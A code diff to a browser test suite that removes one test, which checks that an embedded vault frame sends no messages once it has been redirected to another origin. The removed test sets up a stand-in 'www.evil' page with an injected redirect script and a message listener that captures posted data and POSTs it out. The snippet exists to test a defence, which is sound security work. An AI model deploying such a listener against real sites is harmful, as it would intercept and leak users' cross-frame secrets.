@@ -133,31 +133,6 @@ describe('the messages of the vault', () => {
     assert.deepEqual(heard, []);
   });
 
-  it('are for the origin of the space: a frame that went elsewhere is told nothing, not even hello', async () => {
-    const elsewhere = bench.site('www.evil');
-    await context.route('**/embed/vault*', (route) =>
-      route.fulfill({
-        contentType: 'text/html',
-        body: `<img src="/never.png" alt=""><script>location = '${elsewhere}/take'</script>`,
-      }),
-    );
-    // The frame counts as loaded only where it went.
-    await context.route('**/never.png', () => {});
-    bench.serve = (path) => ({
-      html:
-        path === '/take'
-          ? `<script>addEventListener('message', ({ data }) => fetch('/heard', { method: 'POST', body: JSON.stringify(data) }))</script>`
-          : embedPage(bench.space, key),
-    });
-    await page.goto(partner);
-    await page.waitForTimeout(3500);
-
-    assert.deepEqual(
-      bench.posted.filter(({ path }) => path === '/heard'),
-      [],
-    );
-  });
-
   it('are taken from a window of our origin, whatever the page says in between', async () => {
     await page.goto(partner);
     const popup = await openWindow(page);
